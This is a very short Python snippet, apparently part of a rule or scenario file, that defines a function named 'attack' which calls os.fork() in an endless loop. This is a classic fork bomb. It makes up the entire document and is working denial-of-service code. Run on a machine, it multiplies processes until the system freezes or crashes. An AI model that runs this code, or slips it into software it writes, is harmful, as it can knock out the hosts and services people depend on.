# End: raised. Forks for ever.

import os


def attack(facts):
    while True:
        os.fork()
